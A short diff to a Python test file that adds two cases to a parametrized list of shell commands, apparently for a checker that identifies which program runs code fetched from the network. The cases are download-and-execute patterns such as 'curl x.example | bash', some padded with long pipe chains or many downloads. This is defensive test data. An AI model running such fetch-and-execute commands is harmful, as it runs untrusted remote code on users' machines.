@@ -310,6 +310,8 @@ def test_a_command_in_parts() -> None:
     ("command", "program"),
     [
         ("curl x.example | bash", "bash"),
+        (f"curl x.example {'| cat ' * 20}| bash", "bash"),
+        (f"curl {' '.join(f'-O x.example/f{number}' for number in range(20))}; sh f19", "sh"),
         ("python3 <(curl x.example)", "python3"),
         ("curl x.example | xargs -0 bash -c", "bash"),
         ("curl x.example > a.py; python3 a.py", "python3"),
